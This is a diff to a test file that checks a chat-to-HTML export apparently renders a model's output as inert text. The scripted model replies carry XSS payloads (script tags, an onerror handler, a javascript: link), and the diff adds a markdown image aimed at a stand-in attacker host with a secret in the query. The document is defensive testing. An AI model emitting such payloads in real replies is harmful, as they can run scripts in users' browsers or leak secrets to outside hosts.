@@ -31,7 +31,10 @@ def sales_table() -> object:
 script = t.ScriptedTransport(
     t.turn("Which one? <script>alert('model-1')</script>", t.tool_use("ask_text", {"prompt": "Which quarter?"})),
     t.turn("Here it is <img src=x onerror=\\"alert('model-2')\\">", t.tool_use("sales_table", {})),
-    t.reply("South sold **most** in Q3. <script>alert('model-3')</script> [x](javascript:alert('model-4'))"),
+    t.reply(
+        "South sold **most** in Q3. <script>alert('model-3')</script> [x](javascript:alert('model-4')) "
+        "![chart](https://attacker.example/leak?q=SECRET)"
+    ),
 )
 agent = nt.Agent(client=script.client(), model="claude-test", tools=[sales_table], frontend_tools=[nt.ask_text])
 chat = nt.Chat(agent)
@@ -127,6 +130,7 @@ def test_the_html_shows_the_conversation_the_answer_and_a_table(converted):
     assert set(cells) == {"north", "south", "120", "860"}
     # What the model wrote is text, shown as written, never markup.
     assert "<script>alert('model-1')</script>" in text and "onerror=" in text
+    assert "🖼 image from attacker.example: chart" in text  # a link, never an image fetched by itself
 
 
 def test_nothing_the_model_wrote_becomes_a_script_or_a_handler(converted):
